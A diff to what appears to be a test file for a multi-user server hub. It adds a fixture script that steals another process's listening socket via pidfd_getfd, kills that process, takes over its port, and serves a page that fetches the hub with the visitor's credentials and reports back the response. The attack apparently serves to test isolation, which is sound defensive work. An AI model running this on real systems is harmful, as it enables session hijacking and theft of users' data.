@@ -165,3 +165,39 @@ import json, subprocess
 left = subprocess.Popen(["sleep", "1234"], start_new_session=True)
 print(json.dumps(left.pid))
 """
+
+# A program of a learner: ends the own server, takes its open port over, and shows whoever comes a
+# page that asks the hub in the visitor's name. Prints what that page found out. Arguments: the
+# server's number, and the hub's address.
+POSE = """
+import ctypes, http.server, os, signal, socket, sys, time
+number, hub = int(sys.argv[1]), sys.argv[2]
+variables = open(f"/proc/{number}/environ").read().split("\\0")
+door = next(int(each.partition("=")[2]) for each in variables if each.startswith("WORKSHOP_DOOR="))
+getfd = 438  # pidfd_getfd: its number in the system calls of all common machines
+taken = ctypes.CDLL(None).syscall(getfd, os.pidfd_open(number), door, 0)
+os.kill(number, signal.SIGKILL)
+class Page(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        tell = "text => fetch('told', {method: 'POST', body: text})"
+        ask = f"fetch('{hub}/hub/home', {{credentials: 'include'}}).then(answer => answer.text())"
+        self.wfile.write(f"<script>{ask}.catch(String).then({tell})</script>".encode())
+    def do_POST(self):
+        told = self.rfile.read(int(self.headers["Content-Length"])).decode()
+        self.send_response(204)
+        self.end_headers()
+        found.extend([told] * self.path.endswith("/told"))
+    def log_message(self, *_):
+        pass
+server = http.server.HTTPServer(("", 0), Page, bind_and_activate=False)
+server.socket = socket.socket(fileno=taken)
+server.socket.setblocking(True)
+print("ready", flush=True)
+found, end, server.timeout = [], time.monotonic() + 30, 1
+while not found and time.monotonic() < end:
+    server.handle_request()
+print(repr(found), flush=True)
+"""
